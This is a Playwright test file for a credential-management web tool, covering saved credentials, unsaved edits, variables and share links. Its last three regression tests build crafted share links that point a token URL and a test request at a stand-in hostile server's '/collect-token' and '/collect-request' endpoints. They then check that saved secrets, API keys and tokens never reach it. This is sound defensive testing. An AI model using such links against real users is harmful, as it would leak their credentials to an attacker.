// Saved credentials as people use them, from bugs users reported: a switch that dropped edits,
// Discover overriding a saved choice, variables that applied only after "Save variables", New
// credential keeping the old settings, a share link inheriting the open credential's secrets.
import { expect, test, type Page } from '@playwright/test';
import { DEMO, HOSTILE, fillClientCredentials, getToken, openApp, showSent, basicForms } from './fixtures';

const SECRET = 'demo-cc-secret';

const textbox = (page: Page, name: string) => page.getByRole('textbox', { name, exact: true });
const tile = (page: Page, name: string) => page.getByRole('listitem').filter({ hasText: name });

async function saveAs(page: Page, name: string): Promise<void> {
  await textbox(page, 'Credential name').fill(name);
  await page.getByRole('button', { name: 'Save credential' }).click();
  await expect(page.getByTestId('library-notice')).toContainText(`Saved “${name}”`);
}

async function saveConfidential(page: Page, name: string, scope = 'api:read'): Promise<void> {
  await fillClientCredentials(page, { tokenUrl: `${DEMO}/token`, clientId: 'demo-cc', clientSecret: SECRET, scope, clientAuth: 'client_secret_basic' });
  await saveAs(page, name);
}

test('Discover on a saved confidential credential keeps its client authentication and still sends the secret', async ({ page }) => {
  await openApp(page);
  await saveConfidential(page, 'Confidential');
  await expect(page.getByLabel('Client secret', { exact: true })).toHaveValue(''); // the secret is saved, not in the field
  await textbox(page, 'Issuer').fill(DEMO);
  await page.getByRole('button', { name: 'Discover' }).click();
  await expect(page.getByRole('region', { name: 'Server metadata' })).toBeVisible();
  await expect(page.getByLabel('Client authentication')).toHaveValue('client_secret_basic');
  await expect(page.getByRole('region', { name: 'Server metadata' })).not.toContainText('set to none');
  await getToken(page);
  await showSent(page);
  await expect(page.getByLabel('Token request request', { exact: true })).toContainText(/authorization: Basic /i);
});

test('unsaved edits are marked, kept across a switch, and Save or Revert settle them', async ({ page }) => {
  await openApp(page);
  await saveConfidential(page, 'Alpha', 'api:read');
  await page.getByLabel('Preset').selectOption({ label: 'Local demo' });
  await saveAs(page, 'Beta');
  await tile(page, 'Alpha').getByRole('button', { name: 'Open Alpha' }).click();
  await expect(textbox(page, 'Scope')).toHaveValue('api:read');
  const header = page.getByTestId('open-credential');
  await expect(header).not.toContainText('Unsaved changes');

  await textbox(page, 'Scope').fill('api:read api:write');
  await expect(header).toContainText('Unsaved changes');
  await expect(tile(page, 'Alpha')).toContainText('Unsaved changes');

  // Away and back: the edit is still there, still marked.
  await tile(page, 'Beta').getByRole('button', { name: 'Open Beta' }).click();
  await expect(header).toContainText('“Beta”');
  await expect(header).not.toContainText('Unsaved changes');
  await expect(tile(page, 'Alpha')).toContainText('Unsaved changes');
  await tile(page, 'Alpha').getByRole('button', { name: 'Open Alpha' }).click();
  await expect(textbox(page, 'Scope')).toHaveValue('api:read api:write');
  await expect(header).toContainText('Unsaved changes');

  // Revert: the saved version, unmarked.
  await header.getByRole('button', { name: 'Revert', exact: true }).click();
  await expect(textbox(page, 'Scope')).toHaveValue('api:read');
  await expect(header).not.toContainText('Unsaved changes');
  await expect(tile(page, 'Alpha')).not.toContainText('Unsaved changes');

  // Save: kept after a reload, unmarked.
  await textbox(page, 'Scope').fill('api:write');
  await header.getByRole('button', { name: 'Save', exact: true }).click();
  await expect(header).not.toContainText('Unsaved changes');
  await page.reload();
  await expect(page.getByRole('button', { name: 'Get token' })).toBeEnabled();
  await expect(textbox(page, 'Scope')).toHaveValue('api:write');
  await expect(header).not.toContainText('Unsaved changes');
  // the saved secret is still used
  await getToken(page);
});

test('variables apply as typed, without Save variables, in Get token and in Discover', async ({ page }) => {
  await openApp(page);
  await page.getByRole('textbox', { name: 'New environment name' }).fill('local');
  await page.getByRole('button', { name: 'Add environment' }).click();
  await textbox(page, 'Variable 1 name').fill('demo_host');
  await textbox(page, 'Variable 1 value').fill(DEMO);
  await textbox(page, 'Issuer').fill('{{demo_host}}');
  await page.getByRole('button', { name: 'Discover' }).click();
  await expect(page.getByRole('region', { name: 'Server metadata' })).toBeVisible();
  await expect(textbox(page, 'Token URL')).toHaveValue(`${DEMO}/token`);
  await textbox(page, 'Token URL').fill('{{demo_host}}/token');
  await getToken(page);
  await showSent(page);
  await expect(page.getByLabel('Token request request', { exact: true })).toContainText(`POST ${DEMO}/token`);

  // Saved by themselves: still there after a reload.
  await page.reload();
  await expect(page.getByRole('button', { name: 'Get token' })).toBeEnabled();
  await expect(textbox(page, 'Variable 1 name')).toHaveValue('demo_host');
  await expect(textbox(page, 'Variable 1 value')).toHaveValue(DEMO);
});

test('an unknown variable in the Issuer is said beside Discover', async ({ page }) => {
  await openApp(page);
  await textbox(page, 'Issuer').fill('{{nowhere}}');
  await page.getByRole('button', { name: 'Discover' }).click();
  await expect(page.getByRole('alert')).toContainText('nowhere');
});

test('New credential starts from a blank configuration', async ({ page }) => {
  await openApp(page);
  await saveConfidential(page, 'Kept');
  await page.getByRole('button', { name: 'New credential' }).click();
  await expect(textbox(page, 'Token URL')).toHaveValue('');
  await expect(textbox(page, 'Client ID')).toHaveValue('');
  await expect(textbox(page, 'Scope')).toHaveValue('');
  await expect(page.getByTestId('saved-secret')).toHaveCount(0);
  await expect(page.getByText('This configuration is not saved yet.')).toBeVisible();
  // the saved one is untouched
  await tile(page, 'Kept').getByRole('button', { name: 'Open Kept' }).click();
  await expect(textbox(page, 'Client ID')).toHaveValue('demo-cc');
});

// Regression (issue 13, finding 1): a share link's Get token sent the open credential's saved client secret to the link's Token URL, and Send its access token as Bearer.
test('finding 1: a share link opens as a new unsaved configuration: the open credential’s secret and token go nowhere', async ({ page }) => {
  await openApp(page);
  await saveConfidential(page, 'Secret holder');
  const token = await getToken(page);
  const shared = {
    v: 1,
    auth: { authType: 'oauth2', presetId: null, oauth2: { grantType: 'client_credentials', tokenUrl: `${HOSTILE}/collect-token`, clientId: 'demo-cc', clientAuth: 'client_secret_basic' } },
    testRequest: { method: 'GET', url: `${HOSTILE}/collect-request` },
  };
  const sent: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(HOSTILE)) sent.push(`${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`);
  });
  await page.goto(`./#share=${Buffer.from(JSON.stringify(shared)).toString('base64url')}`);
  const confirm = page.getByRole('region', { name: 'Shared settings' });
  await expect(confirm.getByTestId('share-hosts')).toContainText('127.0.0.1:9091');
  await confirm.getByRole('button', { name: 'Apply shared settings' }).click();
  await expect(page.getByText('This configuration is not saved yet.')).toBeVisible();
  await expect(textbox(page, 'Token URL')).toHaveValue(`${HOSTILE}/collect-token`);
  await expect(page.getByTestId('saved-secret')).toHaveCount(0);
  await expect(textbox(page, 'Access token')).toHaveValue(''); // the saved credential's token is not this one's

  // The saved secret is not this configuration's: the page asks for one instead of sending it.
  await page.getByRole('button', { name: 'Get token' }).click();
  await expect(page.getByRole('alert').first()).toContainText('Client secret');
  await page.getByRole('button', { name: 'Send' }).click();
  await expect(page.getByRole('region', { name: 'Test request', exact: true }).getByRole('alert')).toBeVisible();
  for (const request of sent) {
    expect(request).not.toContain(SECRET);
    for (const basic of basicForms('demo-cc', SECRET)) expect(request).not.toContain(basic);
    expect(request).not.toContain(token);
  }
  // Send has no token of this configuration to attach: nothing went to the link's API.
  expect(sent.some((request) => request.includes('/collect-request'))).toBe(false);
});

/** A share link (as the app encodes them) with `auth` and a test request to the hostile server. */
function shareLink(auth: Record<string, unknown>): string {
  const shared = { v: 1, auth: { presetId: null, ...auth }, testRequest: { method: 'GET', url: `${HOSTILE}/collect-request` } };
  return `./#share=${Buffer.from(JSON.stringify(shared)).toString('base64url')}`;
}

/** Every request the page sends to the hostile server, as one line of text (URL, headers, body). */
function recordHostile(page: Page): string[] {
  const sent: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith(HOSTILE)) sent.push(`${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`);
  });
  return sent;
}

// Regression (issue 13, finding 1): Send sent the saved API key to the link's host under the link's header name.
test('finding 1: a share link does not inherit a saved API key under its own header name', async ({ page }) => {
  const KEY = 'demo-api-key';
  await openApp(page);
  await page.getByLabel('Preset').selectOption({ label: 'Local demo: API key header' });
  await page.getByLabel('API key', { exact: true }).fill(KEY);
  await saveAs(page, 'Keyed');
  await expect(page.getByTestId('saved-secret')).toBeVisible();
  const sent = recordHostile(page);
  await page.goto(shareLink({ authType: 'api_key', apiKey: { placement: 'header', name: 'X-Collect' } }));
  await page.getByRole('region', { name: 'Shared settings' }).getByRole('button', { name: 'Apply shared settings' }).click();
  await expect(page.getByText('This configuration is not saved yet.')).toBeVisible();
  await page.getByRole('button', { name: 'Send' }).click();
  await expect(page.getByRole('region', { name: 'Test request', exact: true }).getByRole('alert')).toContainText('API key is empty');
  for (const request of sent) expect(request).not.toContain(KEY);
  // the saved credential still has it
  await tile(page, 'Keyed').getByRole('button', { name: 'Open Keyed' }).click();
  await page.getByRole('button', { name: 'Send' }).click();
  await expect(page.getByRole('region', { name: 'Response' }).getByTestId('response-status')).toContainText('200');
});

// Regression (issue 13, finding 1): Renew sent the saved refresh token, with the saved secret in a Basic header, to the link's Token URL.
test('finding 1: a share link does not inherit the saved credential’s refresh token or secret (Renew)', async ({ page }) => {
  await openApp(page);
  await page.getByLabel('Preset').selectOption({ label: 'Local demo: Password grant (legacy)' });
  await saveAs(page, 'Refreshing');
  const accessToken = page.getByRole('textbox', { name: 'Access token' });
  await page.getByRole('button', { name: 'Get token' }).click();
  await expect(page.getByRole('textbox', { name: 'Refresh token' })).not.toHaveValue('');
  const refreshToken = await page.getByRole('textbox', { name: 'Refresh token' }).inputValue();
  const sent = recordHostile(page);
  await page.goto(shareLink({ authType: 'oauth2', oauth2: { grantType: 'refresh_token', tokenUrl: `${HOSTILE}/collect-token`, clientId: 'demo-password', clientAuth: 'client_secret_basic' } }));
  await page.getByRole('region', { name: 'Shared settings' }).getByRole('button', { name: 'Apply shared settings' }).click();
  await expect(accessToken).toHaveValue('');
  await page.getByRole('button', { name: 'Get token' }).click(); // the refresh_token grant: renew the current token
  await expect(page.getByRole('alert').first()).toContainText('no refresh token');
  for (const request of sent) {
    expect(request).not.toContain(refreshToken);
    expect(request).not.toContain('demo-password-secret');
    for (const basic of basicForms('demo-password', 'demo-password-secret')) expect(request).not.toContain(basic);
  }
});
